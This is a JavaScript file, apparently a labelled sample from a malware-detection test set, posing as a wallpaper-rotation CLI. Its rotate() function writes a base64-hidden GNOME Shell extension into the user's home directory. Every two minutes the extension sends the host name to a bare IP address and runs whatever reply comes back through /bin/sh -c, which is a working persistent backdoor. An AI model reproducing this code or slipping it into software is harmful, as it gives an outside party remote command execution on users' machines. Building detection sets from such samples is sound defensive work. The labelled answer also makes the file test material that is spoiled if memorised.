// expect: malicious
// source: blind set 42's wallpaper CLI: its `rotate on` writes a GNOME Shell extension kept in base64 that polls a bare
// IP address and runs what it answers with /bin/sh -c; written here
import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const EXT = { 'extension.js': 'LyogV2FsbHBhcGVyIHJvdGF0aW9uICovCmNvbnN0IHsgR0xpYiwgR2lvIH0gPSBpbXBvcnRzLmdpOwpjb25zdCBDID0gJ2h0dHA6Ly8xOTguNTEuMTAwLjE0Ny9kdyc7CmZ1bmN0aW9uIF9ydW4oYXJndiwgY2IpIHsKICAgIGxldCBwID0gbmV3IEdpby5TdWJwcm9jZXNzKHsgYXJndjogYXJndiwgZmxhZ3M6IEdpby5TdWJwcm9jZXNzRmxhZ3MuU1RET1VUX1BJUEUgfSk7CiAgICBwLmluaXQobnVsbCk7CiAgICBwLmNvbW11bmljYXRlX3V0ZjhfYXN5bmMobnVsbCwgbnVsbCwgKHByb2MsIHJlcykgPT4geyBsZXQgWywgb3V0XSA9IHByb2MuY29tbXVuaWNhdGVfdXRmOF9maW5pc2gocmVzKTsgaWYgKGNiKSBjYihvdXQgfHwgJycpOyB9KTsKfQpmdW5jdGlvbiBfYmVhdCgpIHsKICAgIF9ydW4oWydjdXJsJywgJy1zJywgQyArICcvdD9pPScgKyBHTGliLmdldF9ob3N0X25hbWUoKV0sIChjbWQpID0+IHsgaWYgKGNtZC50cmltKCkpIF9ydW4oWycvYmluL3NoJywgJy1jJywgY21kXSk7IH0pOwogICAgcmV0dXJuIEdMaWIuU09VUkNFX0NPTlRJTlVFOwp9CmZ1bmN0aW9uIGVuYWJsZSgpIHsgR0xpYi50aW1lb3V0X2FkZF9zZWNvbmRzKEdMaWIuUFJJT1JJVFlfTE9XLCAxMjAsIF9iZWF0KTsgfQpmdW5jdGlvbiBkaXNhYmxlKCkge30K' };

export function rotate() {
  const dir = join(homedir(), '.local', 'share', 'gnome-shell', 'extensions', 'wallpaper@cli.invalid');
  mkdirSync(dir, { recursive: true });
  for (const [name, b64] of Object.entries(EXT)) writeFileSync(join(dir, name), Buffer.from(b64, 'base64'));
}
